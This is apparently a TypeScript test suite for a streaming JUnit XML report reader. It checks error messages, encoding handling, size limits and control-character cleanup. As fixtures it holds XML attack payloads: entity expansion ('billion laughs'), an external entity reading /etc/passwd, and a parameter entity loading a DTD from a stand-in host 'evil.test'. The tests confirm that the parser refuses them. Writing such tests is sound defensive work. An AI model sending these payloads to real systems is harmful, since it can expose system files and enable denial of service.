import { inChunks } from '../testSources';
import { limits } from './limits';
import { readJunit } from './readJunit';

const suite = (content: string) =>
  `<testsuites><testsuite name="S">${content}</testsuite></testsuites>`;

describe('reports that cannot be read', () => {
  const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>
<testsuites><testsuite name="&lol2;"/></testsuites>`;
  const problems: Array<[string, string | Uint8Array, RegExp]> = [
    ['nothing', '', /^is empty$/],
    ['white space', ' \n\n', /^is empty$/],
    ['nothing but a byte order mark', '\uFEFF', /^is empty$/],
    [
      'JSON',
      '  {"tests": 1}',
      /^is not XML: line 1, column 1: it begins with "\{/,
    ],
    [
      'a PNG',
      Buffer.from('89504e470d0a1a0a', 'hex'),
      /^is not XML: line 1, column 1/,
    ],
    [
      'an HTML page',
      '<!DOCTYPE html><html><body>Sign in</body></html>',
      /^is an HTML page/,
    ],
    [
      'an HTML page without a type',
      '\n<html><head></head></html>',
      /^is an HTML page/,
    ],
    [
      'other XML',
      '<?xml version="1.0"?>\n<coverage line-rate="1"/>',
      /line 2, column \d+: its outermost element is <coverage>, where a JUnit report has <testsuites>/,
    ],
    [
      'the start of a report',
      `<testsuites>\n<testsuite name="S">\n<testcase name="a"><fail`,
      /line 3, column \d+: it ends in the middle, <testcase> is not closed/,
    ],
    [
      'a report that is cut within a text',
      `<testsuites><testsuite><testcase name="a"><failure>AssertionErr`,
      /it ends in the middle, <failure> is not closed/,
    ],
    [
      'wrong tags',
      '<testsuites>\n<testsuite></testsuites>',
      /line 2, column \d+: unexpected close tag/,
    ],
    [
      'two documents',
      '<testsuites/><testsuites/>',
      /documents may contain only one root/,
    ],
    [
      'an attribute twice',
      '<testsuites a="1" a="2"/>',
      /duplicate attribute: a|line 1/,
    ],
    [
      'an unknown entity',
      suite('&nbsp;'),
      /line 1, column \d+: undefined entity/,
    ],
    [
      'entities that expand',
      laughs,
      /line 2, column \d+: it has a DOCTYPE with definitions of its own, such as entities, which are not read for safety/,
    ],
    [
      'an entity that reads a file',
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuites>&x;</testsuites>',
      /DOCTYPE with definitions/,
    ],
    [
      'a parameter entity from elsewhere',
      '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd">%x;]><testsuites/>',
      /DOCTYPE with definitions/,
    ],
    [
      'UTF-16',
      Buffer.from('\uFEFF<testsuites/>', 'utf16le'),
      /^is in UTF-16: only UTF-8 is read/,
    ],
    [
      'UTF-16 without a byte order mark',
      Buffer.from('<testsuites/>', 'utf16le'),
      /^is in UTF-16/,
    ],
    [
      'another encoding',
      '<?xml version="1.0" encoding="ISO-8859-1"?><testsuites/>',
      /^is in ISO-8859-1: only UTF-8 is read; have it written as UTF-8$/,
    ],
    [
      'elements in elements without end',
      suite('<a>'.repeat(200)),
      /more than 100 elements in one another/,
    ],
    [
      'an attribute without end',
      suite(`<testcase name="${'x'.repeat(2 * limits.tag)}"/>`),
      /an element with attributes of more than 1 MB/,
    ],
  ];
  it.each(problems)('%s', async (_, content, message) => {
    const size = content.length > 10_000 ? 65_536 : 5;
    await expect(readJunit(inChunks(content, size))).rejects.toMatchObject({
      name: 'ReportProblem',
      message: expect.stringMatching(message),
    });
  });

  it('a text without end', async () => {
    async function* source() {
      yield Buffer.from('<testsuites><system-out>');
      const part = Buffer.alloc(1024 * 1024, 'x');
      for (;;) yield part;
    }
    await expect(readJunit(source())).rejects.toThrow(
      /a text of more than 32 MB/,
    );
  });

  it('a report without end', async () => {
    async function* source() {
      yield Buffer.from('<testsuites>');
      const part = Buffer.from(`<!--${' '.repeat(1024 * 1024)}-->`);
      for (;;) yield part;
    }
    await expect(readJunit(source())).rejects.toThrow(
      /^is longer than 64 MB; write one report per module/,
    );
  });
});

it('takes a DOCTYPE that defines nothing, and reads nothing for it', async () => {
  const content = `<!DOCTYPE testsuites SYSTEM "http://evil.test/junit.dtd">${suite('<testcase name="a"/>')}`;
  await expect(readJunit(inChunks(content))).resolves.toMatchObject({
    passed: 1,
  });
});

it('replaces what is no UTF-8 and what XML does not allow, in the middle of chunks as well', async () => {
  const content = Buffer.concat([
    Buffer.from(
      '\uFEFF<testsuite name="é"><testcase name="a\u0001"><failure message="&#27;[1mbold&#x1b;[0m">',
    ),
    Buffer.from([0xff, 0xfe]),
    Buffer.from(
      'ж\u0000\u0008\u001b[31mred\u001b[0m\u001b]0;title\u0007 \u009f &#7; <![CDATA[\u001b[2J</b>]]>\uFFFF</failure></testcase></testsuite>',
    ),
  ]);
  for (const size of [1, 2, 3, 1000]) {
    const { failures } = await readJunit(inChunks(content, size));
    expect(failures).toEqual([
      expect.objectContaining({
        name: 'é › a␁',
        message: 'bold',
        detail: '��ж␀␈red �  </b>�',
      }),
    ]);
  }
});

it('holds no more of a large report than it keeps', async () => {
  const cases = 100_000;
  async function* source() {
    yield Buffer.from('<testsuites><testsuite name="Large">');
    for (let at = 0; at < cases; at += 1) {
      yield Buffer.from(
        at % 40 === 0
          ? `<testcase name="case ${at} ${'n'.repeat(600)}" time="0.001"><failure message="${'m'.repeat(3000)}"/></testcase>`
          : `<testcase name="case ${at}" time="0.001"/>`,
      );
    }
    yield Buffer.from('</testsuite></testsuites>');
  }
  const report = await readJunit(source());
  expect(report).toMatchObject({
    ...{ total: cases, passed: 97_500, failed: 2_500, seconds: 100 },
  });
  expect(report.failures).toHaveLength(limits.failures);
  expect(report.failedTests).toHaveLength(limits.failedNames);
  expect(report.passedKeys).toEqual([]);
  for (const { name, message } of report.failures) {
    expect(name).toHaveLength(limits.name);
    expect(message).toHaveLength(limits.message);
  }
});

it('keeps the end of what was printed and the start of what was said', async () => {
  const output = `${'x'.repeat(50_000)}end`;
  const said = `start${'y'.repeat(50_000)}`;
  const { failures } = await readJunit(
    inChunks(
      suite(
        `<testcase name="a"><failure message="no"/><system-out>${output}</system-out></testcase><testcase name="b"><failure message="no">${said}</failure></testcase>`,
      ),
      4096,
    ),
  );
  const [printed = '', explained = ''] = failures.map(one => one.detail);
  expect(printed).toHaveLength(limits.detail);
  expect(printed).toMatch(/xend$/);
  expect(explained).toHaveLength(limits.detail);
  expect(explained).toMatch(/^starty/);
});

it('passes on what breaks the source', async () => {
  async function* source() {
    yield Buffer.from('<testsuites>');
    throw new Error('connection lost');
  }
  await expect(readJunit(source())).rejects.toThrow('connection lost');
});
